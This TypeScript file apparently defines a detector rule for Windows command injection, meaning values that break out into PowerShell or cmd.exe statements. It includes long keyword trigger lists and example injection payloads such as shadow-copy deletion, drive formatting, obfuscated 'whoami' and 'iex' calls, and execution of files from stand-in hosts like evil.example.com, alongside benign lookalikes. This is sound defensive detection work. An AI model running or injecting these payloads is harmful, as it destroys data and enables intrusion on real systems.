import { batchEnd } from '../../grammars/shell/batch.ts';
import { isTitle } from '../../grammars/shell/listed-word.ts';
import { endAt, powershellEnd } from '../../grammars/shell/powershell.ts';
import { longAliases, shortAliases, splatTakers } from '../../knowledge/powershell-aliases.ts';
import { confidence } from '../../placement/confidence.ts';
import { takesValue } from '../../placement/field-role.ts';
import type { Subject } from '../../placement/subject.ts';
import { isInValue } from '../../placement/value-place.ts';
import { createFinder } from '../../text/char-finder.ts';
import { endsValue, followsValue } from '../../text/place.ts';
import type { Match, ValueRule } from '../rule.ts';
import { callsWith } from './windows-shell.ts';

const drives: readonly string[] = [...'abcdefghijklmnopqrstuvwxyz'];
/** With what is compared: base64 ends in `==`. */
const equalities = [...drives, ...'0123456789_%"\' '].map((next) => `==${next}`);

/** The call operators behind a separator, where a name may follow; and with a variable or a block. */
const called: readonly string[] = ['&', '.'].flatMap((call) => [
  ...[';', '|', '\n', '{', '('].flatMap((before) => [`${before}${call}`, `${before} ${call} `]),
  ...['$', '{'].flatMap((next) => [`${call}${next}`, `${call} ${next}`]),
]);

function written(path: string): readonly string[] {
  return [`>${path}`, `> ${path}`];
}

/** `x; Get-WmiObject a`, `x; [IO.File]::ReadAllText('a')`, `x & if exist a whoami`, `x&format c:`. */
export const windowsStatement: ValueRule = {
  id: 'cmdi.windows-statement',
  score: confidence.strong,
  message: 'ends the expected command and goes on with a statement of PowerShell or cmd.exe',
  trigger: {
    literals: [
      [';', '|', '&', '\n', '{', '$('],
      [
        // Cmdlets of frequent English beginnings (`read-only`, `add-on`) with their noun.
        ...['get-', 'set-', 'stop-', 'restart-', 'invoke-', 'write-', 'move-'],
        ...['rename-', 'resolve-', 'enter-', 'disable-', 'enable-', 'clear-', 'uninstall-'],
        ...['foreach-', 'add-type', 'add-content', 'add-local', 'add-mp', 'add-ad'],
        ...['add-computer', 'new-object', 'new-item', 'new-local', 'new-aduser', 'new-ps'],
        ...['new-cim', 'new-scheduled', 'start-process', 'start-job', 'start-service'],
        ...['start-sleep', 'start-bits', 'start-scheduled', 'out-file', 'out-host'],
        ...['copy-item', 'test-con', 'test-net', 'test-computer', 'import-module', 'read-host'],
        ...['$psversion', '$executioncontext', '$pshome', ']::', '[ref]'],
        ...['iex', 'icm', 'saps', '& "', "& '", '.exe'],
        // With what is called: sentences go on with a parenthesis.
        ...callsWith('"\'$g \t\n'),
        // `if` and its condition, `start` and what is started, `format` and the drive.
        ...['if exist', 'if defined', 'not exist', 'not defined', '/i exist', '/i defined'],
        ...['errorlevel', ...equalities, ' equ ', ' neq ', ' lss ', ' gtr '],
        ...['start "', "start '", 'start /', 'start h', 'start  ', 'start calc', 'start notepad'],
        ...['start cmd', 'start powershell', '.bat', '.cmd', '.ps1', '.vbs', '.hta'],
        ...drives.flatMap((drive) => [`format ${drive}:`, `ri ${drive}:`]),
        ...['format  ', 'wmic', 'vssadmin', 'rundll32', 'findstr', 'ftype', 'klist'],
        ...['attrib.', 'attrib ', 'attrib&', 'attrib|', 'attrib;', '& attrib', '&attrib'],
        ...['| attrib', '|attrib', '; attrib', ';attrib', '\nattrib'],
        ...['quser', 'bcdedit', 'diskpart', 'auditpol', 'powercfg', 'eventvwr', 'mspaint'],
        ...['regedit', 'taskmgr', 'msconfig', 'gpresult', 'cipher', '&calc', '|calc'],
        ...['&notepad', '|notepad', 'gci ', 'gwmi', 'gcim', 'ri -', 'ri  ', 'tnc '],
        ...['env:', 'hklm:', 'hkcu:', 'variable:', 'cert:', 'function:', 'wsman:'],
        // Escapes of PowerShell, blocks, casts, aliases with what is named.
        ...['`', '){', ') {', '%{', '% {', 'try{', 'try {', 'do{', 'do {', 'function ', '.invoke'],
        ...['[wmi', '[adsi', '[char]', '[string]', '-join', 'register-sch', '-archive'],
        ...['convertto-', 'convertfrom-', 'format-list', 'format-table', 'format-custom'],
        ...['select-object', 'select-string', 'push-location', 'pop-location', 'unblock-file'],
        ...['export-csv', 'export-clixml', 'install-module', 'new-service', 'new-module'],
        ...['new-alias', 'new-variable', 'sal ', 'nal ', 'tee '],
        ...[...longAliases, ...shortAliases].map((name) => `${name} `),
        ...splatTakers.map((name) => `${name} @`),
        ...called,
        // What comes through a pipe, or is written as a text.
        ...['iex', 'cmd', 'powershell', 'pwsh'].flatMap((name) => [`|${name}`, `| ${name}`]),
        ...[...drives.map((drive) => `${drive}:\\`), '\\\\', '.\\'].flatMap(written),
        ...['for %', 'for /', 'choice', 'tree /', 'nltest', 'doskey', 'esentutl', 'wusa', 'winrs'],
        ...['pcalua', 'cscript', 'wscript', 'mklink', 'setx ', 'extrac32', 'makecab'],
        ...['tskill', 'query ', 'winrm', 'fsutil', 'clip', 'vol ', 'cd \\', 'cd /d', 'find "'],
        ...['dir/', 'del/', 'erase/', 'rd/', 'md/', 'ipconfig/', 'systeminfo/', 'tasklist/'],
        ...['taskkill/', 'whoami/', 'netstat/', 'schtasks/', 'shutdown/', 'xcopy/', 'robocopy/'],
        ...['arp/', 'ver/', 'vol/', '&%', '& %', 'call %', '?{', '? {', 'foreach{', 'foreach {'],
        ...['where{', 'where {', 'find /', 'sdclt', 'fodhelper', 'subst ', 'pushd', 'notepad'],
        'explore',
      ],
    ],
  },
  judge,
  examples: [
    ...['10.0.0.1; Get-WmiObject Win32_Process', '; Get-ChildItem C:\\', 'x | Out-File a.txt'],
    'x; Set-ExecutionPolicy Bypass -Scope Process',
    ...['x; [System.IO.File]::ReadAllText("C:\\a")', 'x; [Environment]::UserName'],
    ...['x; [Ref].Assembly.GetType("a")', 'x; $env:USERNAME'],
    'x; IEX([Text.Encoding]::ASCII.GetString($a))',
    ...['x; iex $a', 'x; &("who"+"ami")', "x; . ('ca'+'lc')", 'x; & "calc.exe"'],
    ...['x $(Invoke-Expression calc)', 'x & if exist c:\\a whoami', 'x&if 1==1 whoami'],
    ...['x & start "" /b calc.exe', 'x&format c: /y', 'x & wmic process call create calc'],
    'x&vssadmin delete shadows /all',
    'x&rundll32 url.dll,OpenURL http://203.0.113.5',
    ...['x & findstr /si pass c:\\a.txt', 'x & bcdedit', 'x & gpresult /r', 'x; dir env:'],
    ...['x; gci C:\\Users', 'x&calc', 'x&attrib', 'x; cipher /w:c'],
    ...['x & start https://203.0.113.5/', 'x & if "a"=="a" dir', 'x; ri -r a', 'x\nGet-Process'],
    'x; Copy-Item aa bb',
    'x; Get-Content \u0434\u0430\u043d\u043d\u044b\u0435.txt',
    ...['x & start calc a b c', '10.0.0.1;G`et-Pro`cess', 'x; wh`oami', 'x;&{whoami}'],
    ...['x;1..3|%{whoami}', 'x;if(1){hostname}', "x;&([char]119+'hoami')", "x;$a='who'+'ami';& $a"],
    ...["x;('who'+'ami')|iex;y", 'x;iex whoami', 'x; . whoami', 'x;.\\a.ps1'],
    "x;([wmiclass]'win32_process').Create('calc')",
    "x;(New-Object -ComObject WScript.Shell).Run('calc')",
    ...['$(Get-Process)', "\"; 'x' > c:\\a.txt", "x;$p=@{Path='C:\\'};Get-ChildItem @p"],
    ...['x;nal y whoami;y', 'x & for %i in (1 2) do whoami'],
    'x & for /r c:\\ %i in (*.txt) do @type "%i"',
    ...['x & mklink /d a c:\\', 'x & pushd \\\\203.0.113.5\\s', 'x & query user'],
    ...['x & explorer \\\\203.0.113.5\\s', 'x&regedit', 'x; C:\\a.bat', 'x&ipconfig/all'],
    ...['x & dir/s', 'x&set a=whoami&call %a%', 'x;1|foreach{whoami}', 'x;1|?{whoami}'],
    ...['x;${a}="whoami";& ${a}', 'x&\\\\evil.example.com\\s\\a.exe', 'example.com & query user'],
    ...['localhost & query user', 'x | sc a.txt', 'x; gsv *sql*'],
    ...['Printer; \\\\203.0.113.5\\s\\a.cmd', 'a;b\nx;\\\\evil.example.com\\s\\a.bat'],
    ...['a;b\nx; C:\\a.bat', 'Backup; Get-Content web.config'],
    ...['Backup; Restart-Computer localhost', 'Backup; Get-ChildItem uploads'],
  ],
  lookalikes: [
    ...['coffee; get-together at noon', 'Tea & start-up news; set-top boxes'],
    'Get-Process | Stop-Process is what I ran in PowerShell',
    'In PowerShell you write $a = Get-Item x; Get-Content $a',
    ...['Excel & Calc', 'Excel & start menu', 'a=1&calc', 'red; if you like, blue'],
    'sound & format c:5.1',
    'the first; [the second](https://www.example.com/a)',
    ...['bold & "calc" in quotes', 'sum; &(g, b)', 'page; $psversions and $path'],
    ...['x; std::vector[0]::size', 'Notes; new-items & test-drives', 'Home & calculator'],
    ...['chkdsk C: /f; sfc /scannow', 'Hi team; Get-Process hangs on SRV02'],
    'Ошибка; Get-Process не работает',
    'Run this:\nGet-Service spooler\nStop-Service spooler',
    'Guten Tag,\n\nGet-Process | Sort-Object CPU is slow; what else?\n\nViele Grüße, Jörg',
    'Install:\n\n```\nnpm i\n```\n\nif exist node_modules whoami',
    ...['Caesar; cipher', 'api {\nget-item: 1}', 'Help; regedit', 'VP & Dir/S'],
    ...['R&D/QA and ver/rev; set a=b & go', 'list; foreach {item}', 'Docker & WSL history'],
    ...['Paint & mspaint', 'The shell; vol c: is the label', 'music; ac unit.txt'],
    ...['Racing; gp -monaco', 'Ticket 42; Get-ADUser returns nothing', 'red; if(a){return}'],
    ...['a;if(x){sleep(5)}', 'page; .nav{color:red}', 'one; & {two}', 'sum; $x = [1]'],
    ...['fee; . $5 each', 'it; the `code` & more', 'query { hostname }', 'tea & query users'],
    ...['milk | tree', 'a & for % in (all)', 'INFO;2026-01-01;C:\\batch\\nightly.cmd;OK'],
    ...['Error | C:\\scripts\\backup.ps1 | line 12', 'Printer; \\\\srv01\\share\\install.cmd'],
    ...['.\\build.ps1;.\\test.ps1', 'Nasdaq | NYSE | IEX', 'Bluetooth; Wi-Fi; GPS 5 Hz'],
    ...['Mercedes C 63 & SLS 63 AMG', 'Home | SC Freiburg.de', 'TV & AC unit "Wind-Free"'],
    ...['Tickets | GP Monaco "2026"', 'Database & query process', 'Slow PC & Explorer C:\\ hangs'],
    ...['Firewall rules & WinRM set up', 'name;path\nnightly;C:\\batch\\nightly.cmd'],
    ...['Checked; Test-NetConnection fails', 'Fixed; Restart-Computer needed'],
    ...['please wipe & format d: drive', 'Mac|cmd', 'Windows | PowerShell'],
    ...['C:\\Program Files\\A;C:\\Windows\\System32', 'cd app; iex -S mix phx.server'],
  ],
};

/** Tight, as no title is: `Writer & Calc`. */
const tight = /(?:calc|notepad)(?= {0,3}(?:$|[&|#"']))/iy;

function judge(subject: Subject): Match | undefined {
  const { text, decoded } = subject;
  // Only a parser of URLs reads a text without its line breaks.
  if (decoded.includes('url-break')) return undefined;
  const last = Math.min(text.length, headCharsMax);
  const mayEscape = text.includes('`');
  const isValue = takesValue(subject.member);
  let count = 0;
  for (let at = nextSeparator(text, 0); at < last; at = nextSeparator(text, at + 1)) {
    if (++count > separatorsMax) break;
    // Prose has parentheses, and no dollar before them.
    if (text.charCodeAt(at) === openParen && text.charCodeAt(at - 1) !== dollar) continue;
    // Cheaper than the patterns: in a text of several lines it is seldom so.
    if (!followsValue(text, at) && !(isValue && isInValue(subject, at))) continue;
    const end = statementEnd(text, at, mayEscape);
    if (end === 0 || isScript(text, at) || isListed(text, at)) continue;
    return { start: at, end: endsValue(text, end) ? text.length : end };
  }
  return undefined;
}

/** A command stands behind a value, which is seldom long. */
const headCharsMax = 8_192;
const separatorsMax = 128;
/** `$(` too. */
const nextSeparator = createFinder(/[\n&(;{|]/g);
const ampersand = 38;

/** Where a statement ends that begins behind a separator, 0 for none. */
function statementEnd(text: string, separator: number, mayEscape: boolean): number {
  const code = text.charCodeAt(separator);
  // `(` and `{` begin a statement in PowerShell only.
  const isBracket = code === openParen || code === openBrace;
  let at = separator + 1;
  while (at < separator + blanksMax && text.charCodeAt(at) <= 32) at++;
  const isPiped = code === pipe;
  const isFed = isPiped && !isTitle(text, separator);
  const place = { isPiped, isFed, mayCall: code !== ampersand, mayEscape };
  const found = powershellEnd(text, at, place);
  if (found > 0 || isBracket) return found;
  const isTight = at === separator + 1 && (code === ampersand || code === pipe);
  return batchEnd(text, at, code === semicolon) || (isTight ? endAt(tight, text, at) : 0);
}

const blanksMax = 4;
const openParen = 40;
const openBrace = 123;
const pipe = 124;
const semicolon = 59;
const dollar = 36;

/** Behind a line break: in a document of lines, or below what leads to a listing (`Run this:`). */
function isListed(text: string, start: number): boolean {
  if (text.charCodeAt(start) !== lineFeed) return false;
  const before = text.slice(Math.max(0, start - beforeCharsMax), start).trim();
  return before.includes('\n') || leadsOver.test(before);
}

const lineFeed = 10;
const leadsOver = /[a-z\u00c0-\u1fff]{2}[,:!]$/i;

/** A line of a script stands in front, or the name of a parameter: no data. */
function isScript(text: string, start: number): boolean {
  // The dollar of `$(` belongs to the statement.
  const end = text.charCodeAt(start) === openParen ? start - 1 : start;
  return script.test(text.slice(Math.max(0, end - beforeCharsMax), end));
}

const beforeCharsMax = 120;
const script =
  /(?:^|[({|]|[^\s;&|]\s{1,4})(?:[a-z]{2,10}-[a-z]{3,20}\b|\$\w)|^\s{0,4}[$[#]|\w=\w{0,60}$/i;
